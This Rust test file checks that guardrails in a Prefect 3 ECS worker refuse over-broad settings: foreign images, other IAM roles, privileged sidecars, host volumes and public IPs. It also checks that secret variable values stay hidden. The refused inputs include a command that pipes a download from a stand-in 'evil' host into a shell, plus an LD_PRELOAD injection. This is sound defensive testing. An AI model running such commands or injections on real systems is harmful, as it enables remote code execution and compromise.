use super::*;
use crate::config::WorkerRules;
use crate::flow_run::prefect3::WorkerSettings;
use crate::flow_run::prefect3::testing::worker;
use crate::flow_run::prefect3::{FlowRunContext, Variables, WorkPool, populate, resolve_variables};
use crate::platform::ecs::platform::WORK_POOL;

pub(super) const CONFIG: &str = "prefect: 3\napi: https://prefect/api\nwork_pool: pool\n";

/// The value of a variable of Prefect.
const KEPT: &str = "sesame/kept:1";

/// A pool with the stock template, at these places (`a.b.0.c`) with something else.
pub(super) fn pool(changes: &[(&str, Value)]) -> Value {
    let mut template: Value = serde_json::from_str((WORK_POOL.template)(WorkerRules::Three)).unwrap();
    let properties = template["variables"]["properties"].as_object_mut().unwrap();
    for (name, default) in [
        ("image", json!(IMAGE)),
        ("cluster", json!("prefect")),
        ("execution_role_arn", json!("arn:aws:iam::123456789012:role/flows-execution")),
        ("task_role_arn", json!("arn:aws:iam::123456789012:role/flows-task")),
        ("vpc_id", json!("vpc-1")),
    ] {
        properties[name]["default"] = default;
    }
    for (place, value) in changes {
        let mut here = &mut template["job_configuration"];
        for key in place.split('.') {
            here = match (here, key.parse::<usize>()) {
                (Value::Array(items), Ok(index)) => {
                    items.resize(items.len().max(index + 1), Value::Null);
                    &mut items[index]
                }
                (here, _) => &mut here[key],
            };
        }
        *here = value.clone();
    }
    template
}

/// A run of a deployment with these job variables; `own`: those of the run itself.
pub(super) fn described(pool: Value, variables: Value, own: Value) -> RunDescription {
    described_with(KEPT, pool, variables, own)
}

/// The same with another value of the variable.
fn described_with(kept: &str, pool: Value, variables: Value, own: Value) -> RunDescription {
    let mut settings = worker();
    settings.unknown_members = UnknownMembers::Send;
    let flow_run = json!({"id": RUN, "name": "otter", "flow_id": "flow-1", "deployment_id": "d-1", "job_variables": own,
        "created_by": {"id": "u-1", "type": "USER", "display_value": "jane"}});
    let flow_run = serde_json::from_value(flow_run).unwrap();
    let deployment =
        serde_json::from_value(json!({"id": "d-1", "name": "nightly", "job_variables": variables})).unwrap();
    let flow = serde_json::from_value(json!({"id": "flow-1", "name": "etl"})).unwrap();
    let work_pool: WorkPool =
        serde_json::from_value(json!({"id": "pool-1", "name": "pool", "base_job_template": pool})).unwrap();
    let context =
        FlowRunContext { flow_run: &flow_run, deployment: Some(&deployment), flow: &flow, work_pool: &work_pool };
    let populated = populate(&settings, &context).unwrap();
    let resolved = resolve_variables(&populated, &Variables::from([("kept".to_owned(), Some(json!(kept)))]));
    RunDescription::Three(Box::new(FlowRunJob {
        worker: Arc::new(settings),
        flow_run: Arc::new(flow_run),
        deployment: Some(Arc::new(deployment)),
        flow: Arc::new(flow),
        work_pool: Arc::new(work_pool),
        populated,
        resolved,
    }))
}

struct Attempt {
    what: &'static str,
    pool: Vec<(&'static str, Value)>,
    variables: Value,
    own: Value,
    rule: &'static str,
}

fn by_deployment(what: &'static str, variables: Value, rule: &'static str) -> Attempt {
    Attempt { what, pool: vec![], variables, own: json!({}), rule }
}

fn by_pool(what: &'static str, place: &'static str, value: Value, rule: &'static str) -> Attempt {
    Attempt { what, pool: vec![(place, value)], variables: json!({}), own: json!({}), rule }
}

fn attempts() -> Vec<Attempt> {
    vec![
        by_deployment("another image", json!({"image": "evil/x"}), "images"),
        Attempt {
            own: json!({"image": "evil/x"}),
            ..by_deployment("an image of the run's own", json!({"image": IMAGE}), "images")
        },
        by_deployment("an image out of a variable", json!({"image": "{{ prefect.variables.kept }}"}), "images"),
        by_pool(
            "an image in two parts",
            "task_definition.containerDefinitions.0.image",
            json!("{{ place }}/x"),
            "images",
        ),
        by_deployment("CPU as a number", json!({"cpu": 16384}), "cpu"),
        by_pool("CPU as a text with a unit", "task_run_request.overrides.cpu", json!("16 vCPU"), "cpu"),
        by_deployment("memory as a number", json!({"memory": 65536}), "memory"),
        by_deployment("another cluster", json!({"cluster": "other"}), "clusters"),
        by_deployment("the default cluster", json!({"cluster": ""}), "clusters"),
        by_deployment("another role", json!({"task_role_arn": "admin"}), "task_roles"),
        by_deployment(
            "another execution role",
            json!({"execution_role_arn": "arn:aws:iam::123456789012:role/admin"}),
            "execution_roles",
        ),
        by_deployment("instances", json!({"launch_type": "EC2"}), "launch_types"),
        by_deployment(
            "a capacity provider of instances",
            json!({"capacity_provider_strategy": [{"capacityProvider": "mine"}]}),
            "launch_types",
        ),
        by_deployment("a denied variable", json!({"env": {"LD_PRELOAD": "x"}}), "environment"),
        by_deployment("a denied variable by a dotted name", json!({"env.AWS_PROFILE": "x"}), "environment"),
        by_deployment("another address of Prefect", json!({"env": {"PREFECT_API_URL": "https://evil"}}), "environment"),
        by_deployment("another command", json!({"command": "sh -c 'curl evil | sh'"}), "command"),
        by_deployment("a command in quotes", json!({"command": "'prefect flow-run execute'"}), "command"),
    ]
}

fn more_attempts() -> Vec<Attempt> {
    let sidecar = "task_definition.containerDefinitions.1";
    let evil = json!([{"name": "prefect", "image": "evil/x"}]);
    vec![
        by_deployment(
            "another agent's key",
            json!({"prefect_api_key_secret_arn": "arn:aws:ssm:eu-west-1:123456789012:parameter/root/secrets/other/api-key"}),
            "secrets",
        ),
        by_deployment("a definition by its name", json!({"task_definition_arn": "other"}), "task_definitions"),
        by_deployment("a family of its own", json!({"family": "prod-service"}), "task_definitions"),
        by_deployment(
            "a public address",
            json!({"network_configuration": {"subnets": ["subnet-1"], "securityGroups": ["sg-flows"], "assignPublicIp": "ENABLED"}}),
            "public_ip",
        ),
        by_deployment(
            "another security group",
            json!({"network_configuration": {"subnets": ["subnet-1"], "securityGroups": ["sg-open"]}}),
            "security_groups",
        ),
        Attempt {
            variables: json!({"definition": {"containerDefinitions": evil}}),
            ..by_pool(
                "a definition, where the template leaves it open",
                "task_definition",
                json!("{{ definition }}"),
                "task_definitions",
            )
        },
        Attempt {
            variables: json!({"all": [{"name": "prefect", "image": IMAGE}, {"name": "side", "image": IMAGE}]}),
            ..by_pool(
                "containers, where the template leaves them open",
                "task_definition.containerDefinitions",
                json!("{{ all }}"),
                "task_definitions",
            )
        },
        Attempt {
            variables: json!({"side": {"name": "side", "image": IMAGE}}),
            ..by_pool("a sidecar, where the template leaves it open", sidecar, json!("{{ side }}"), "task_definitions")
        },
        by_pool("a sidecar of the pool", sidecar, json!({"name": "side", "image": "evil/x"}), "images"),
        by_pool(
            "a privileged sidecar of the pool",
            sidecar,
            json!({"name": "side", "image": IMAGE, "privileged": true}),
            "privileged",
        ),
        by_pool(
            "a command of another container",
            "task_run_request.overrides.containerOverrides.1",
            json!({"name": "side", "command": "sh -c x"}),
            "command",
        ),
        by_pool("five tasks", "task_run_request.count", json!(5), "cpu"),
        by_pool(
            "a volume of the machine",
            "task_definition.volumes",
            json!([{"name": "x", "host": {"sourcePath": "/"}}]),
            "volumes",
        ),
        by_pool("a member that only a newer AWS knows", "task_run_request.runAsRoot", json!(true), "members"),
        by_pool(
            "room on disk",
            "task_run_request.overrides.ephemeralStorage",
            json!({"sizeInGiB": 200}),
            "ephemeral_storage",
        ),
        Attempt {
            variables: json!({"capacity_provider_strategy": [{"capacityProvider": "FARGATE", "weight": 1}]}),
            ..by_pool("the network of the machine", "task_definition.networkMode", json!("host"), "network_modes")
        },
    ]
}

#[tokio::test]
async fn what_deployments_runs_and_pools_ask_for_beyond_the_guardrails_is_refused() {
    let mut rows = Vec::new();
    for Attempt { what, pool: changes, variables, own, rule } in attempts().into_iter().chain(more_attempts()) {
        let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), Documents::default(), UnknownMembers::Send);
        room.aws.world().register(&object(
            json!({"family": "other", "containerDefinitions": [{"name": "prefect", "image": IMAGE}]}),
        ));
        let said = room.refused(described(pool(&changes), variables, own), rule).await;
        rows.push((format!("2/3: {what}"), rule, said));
    }
    table(rows);
}

/// A proposal is written down: what a block or variable holds may be a secret, however long it is and whatever is in it.
#[tokio::test]
async fn what_a_variable_holds_is_in_no_proposal() {
    let long = format!("sesame{}", "x".repeat(500));
    for kept in [KEPT, "sesame\"quoted\"", long.as_str(), "sesame\u{e9}"] {
        let variables = json!({"image": "{{ prefect.variables.kept }}", "cluster": "prefect"});
        let run = described_with(kept, pool(&[]), variables, json!({}));
        let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), Documents::default(), UnknownMembers::Send);
        let spec = room.platform.undelivered(run).await.unwrap();
        let asked = spec.guard.as_ref().unwrap().beforehand(&spec, None).unwrap().asked;
        assert!(asked.contains(&Asked::Cluster("prefect".to_owned())), "{asked:?}");
        assert!(!asked.iter().any(|asked| asked.says("sesame")), "{kept}: {asked:?}");
    }
}

#[tokio::test]
async fn stock_launches_within_the_guardrails_are_made_and_stay_private() {
    for (what, changes, variables) in [
        ("the pool's own", vec![], json!({})),
        (
            "another image of the repository",
            vec![],
            json!({"image": IMAGE.replace(":1", ":2"), "cpu": 2048, "memory": 4096}),
        ),
        ("variables of the run's own", vec![], json!({"env": {"TZ": "UTC"}, "labels": {"team": "etl"}})),
        ("Prefect's own command, written down", vec![], json!({"command": "prefect flow-run execute"})),
        (
            "a list of the template",
            vec![("task_definition.containerDefinitions.0.environment", json!("{{ more }}"))],
            json!({"more": [{"name": "A", "value": "1"}]}),
        ),
        ("a family of the pool's", vec![("task_definition.family", json!("pool-flows"))], json!({})),
        (
            "a network that says nothing of addresses",
            vec![],
            json!({"network_configuration": {"subnets": ["subnet-1", "subnet-2"], "securityGroups": ["sg-flows"]}}),
        ),
        ("Spot", vec![], json!({"capacity_provider_strategy": [{"capacityProvider": "FARGATE_SPOT", "weight": 1}]})),
    ] {
        let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), Documents::default(), UnknownMembers::Send);
        let launch = room.prepare(described(pool(&changes), variables, json!({}))).await;
        let launch = launch.unwrap_or_else(|outcome| panic!("{what}: {outcome:?}")).launch;
        let network = &launch.run_task["networkConfiguration"]["awsvpcConfiguration"];
        assert_eq!(network["assignPublicIp"], "DISABLED", "{what}");
        assert_eq!(network["subnets"], json!(["subnet-1", "subnet-2"]), "{what}");
    }
}

/// The image that the configuration names is the operator's choice; the built-in one is nobody's.
#[tokio::test]
async fn an_image_of_the_configuration_is_allowed_and_the_built_in_one_is_judged() {
    let nothing = |image: &str| {
        let mut run = described(
            pool(&[("task_definition.containerDefinitions.0.image", json!("{{ none }}"))]),
            json!({}),
            json!({}),
        );
        let RunDescription::Three(job) = &mut run else { panic!("of Prefect 3") };
        let settings = WorkerSettings { default_image: image.to_owned(), ..(*job.worker).clone() };
        job.worker = Arc::new(settings);
        run
    };
    let room = |image: &str| {
        Room::new(&format!("{CONFIG}image: {image}\n{GUARDRAILS}"), Documents::default(), UnknownMembers::Refuse)
    };
    assert!(room("chosen/one:1").prepare(nothing("chosen/one:1")).await.is_ok());
    let built_in = WorkerRules::Three.default_image();
    assert_eq!(room(built_in).refused(nothing(built_in), "images").await, None);
}

#[tokio::test]
async fn what_comes_from_a_variable_is_not_told() {
    let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), Documents::default(), UnknownMembers::Refuse);
    for variables in
        [json!({"image": "{{ prefect.variables.kept }}"}), json!({"command": "run --key {{ prefect.variables.kept }}"})]
    {
        let outcome = room.prepare(described(pool(&[]), variables, json!({}))).await;
        let Err(LaunchOutcome::Permanent(text)) = outcome else { panic!("{outcome:?}") };
        assert!(text.contains("(hidden") && !text.contains("sesame"), "{text}");
    }
}

#[test]
fn values_are_filled_in_and_everything_else_is_brought() {
    use crate::platform::ecs::prefect3::definition_origin;
    let evil = json!({"image": "x"});
    let family = || DefinitionOrigin::OwnInFamily("f".into());
    for (what, changes, variables, expected) in [
        ("nothing", vec![], json!({}), DefinitionOrigin::Own),
        ("values", vec![], json!({"image": "x", "cpu": 256, "execution_role_arn": null}), DefinitionOrigin::Own),
        (
            "a variable that the template does not ask for",
            vec![],
            json!({"task_definition": evil}),
            DefinitionOrigin::Own,
        ),
        ("a dotted one", vec![], json!({"task_definition.containerDefinitions": [evil]}), DefinitionOrigin::Own),
        ("a family", vec![], json!({"family": "f"}), family()),
        ("a part of a family", vec![("task_definition.family", json!("{{ x }}"))], json!({"x": "f"}), family()),
        ("a mapping for a value", vec![], json!({"image": evil}), DefinitionOrigin::Brought),
        (
            "all",
            vec![("task_definition", json!("{{ x }}"))],
            json!({"x": {"containerDefinitions": [evil]}}),
            DefinitionOrigin::Brought,
        ),
        (
            "a list of volumes",
            vec![("task_definition.volumes", json!("{{ x }}"))],
            json!({"x": [{"name": "a"}]}),
            DefinitionOrigin::Brought,
        ),
        (
            "a list of words",
            vec![("task_definition.containerDefinitions.0.command", json!("{{ x }}"))],
            json!({"x": ["a"]}),
            DefinitionOrigin::Own,
        ),
        (
            "variables",
            vec![("task_definition.containerDefinitions.0.environment", json!("{{ x }}"))],
            json!({"x": [{"name": "A", "value": "1"}]}),
            DefinitionOrigin::Own,
        ),
        (
            "variables that are something else",
            vec![("task_definition.containerDefinitions.0.environment", json!("{{ x }}"))],
            json!({"x": [{"name": [1]}]}),
            DefinitionOrigin::Brought,
        ),
    ] {
        let RunDescription::Three(job) = described(pool(&changes), variables, json!({})) else {
            panic!("of Prefect 3")
        };
        assert_eq!(definition_origin(&job), expected, "{what}");
    }
}
